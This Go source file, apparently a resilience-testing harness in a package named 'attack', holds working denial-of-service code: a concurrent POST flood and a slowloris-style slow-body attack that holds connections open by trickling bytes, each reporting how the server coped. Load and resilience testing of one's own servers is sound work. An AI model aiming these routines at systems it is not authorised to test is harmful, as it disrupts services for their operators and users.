package attack

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"sync"
	"time"
)

// PostFlood has workers POST bodies made by body to url as fast as they
// can until ctx ends, each hanging up after hangUp, as a client that
// registers and goes away. It returns the requests made and the status
// codes seen.
func PostFlood(ctx context.Context, url string, workers int, hangUp time.Duration, body func(i int) []byte) (n int, codes map[int]int) {
	var mu sync.Mutex
	codes = map[int]int{}
	var wg sync.WaitGroup
	hc := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: workers}}
	defer hc.CloseIdleConnections()
	for w := range workers {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := w; ctx.Err() == nil; i += workers {
				rctx, cancel := context.WithTimeout(ctx, hangUp)
				req, _ := http.NewRequestWithContext(rctx, http.MethodPost, url, bytes.NewReader(body(i)))
				resp, err := hc.Do(req)
				code := 0
				if err == nil {
					code = resp.StatusCode
					io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
				}
				cancel()
				mu.Lock()
				n++
				codes[code]++
				mu.Unlock()
				if code == http.StatusServiceUnavailable || code == http.StatusTooManyRequests {
					sleep(ctx, 5*time.Millisecond)
				}
			}
		}()
	}
	wg.Wait()
	return n, codes
}

// SlowBody opens n connections to target, sends each a POST whose body is
// announced as 1 KiB, then one byte of it every interval, until ctx ends.
// It returns how many connections the server still held at the end and
// the most it held at once.
func SlowBody(ctx context.Context, target netip.AddrPort, path string, n int, interval time.Duration) (held, most int) {
	var mu sync.Mutex
	cur := 0
	var wg sync.WaitGroup
	for range n {
		wg.Add(1)
		go func() {
			defer wg.Done()
			var d net.Dialer
			c, err := d.DialContext(ctx, "tcp", target.String())
			if err != nil {
				return
			}
			defer c.Close()
			mu.Lock()
			cur++
			most = max(most, cur)
			mu.Unlock()
			alive := true
			_, err = fmt.Fprintf(c, "POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: 1024\r\n\r\n{", path, target)
			for err == nil && ctx.Err() == nil {
				sleep(ctx, interval)
				if ctx.Err() != nil {
					break
				}
				// A byte the server will never see the end of; a
				// write error, or a read that sees the close, means the
				// server hung up.
				if _, err = c.Write([]byte(" ")); err == nil {
					c.SetReadDeadline(time.Now().Add(time.Millisecond))
					var b [1]byte
					if n, rerr := c.Read(b[:]); n > 0 || rerr != nil && !isTimeout(rerr) {
						err = io.EOF // an answer or a close: it gave up on us
					}
				}
			}
			alive = err == nil
			mu.Lock()
			if alive {
				held++
			}
			cur--
			mu.Unlock()
		}()
	}
	wg.Wait()
	return held, most
}

func isTimeout(err error) bool {
	ne, ok := err.(net.Error)
	return ok && ne.Timeout()
}
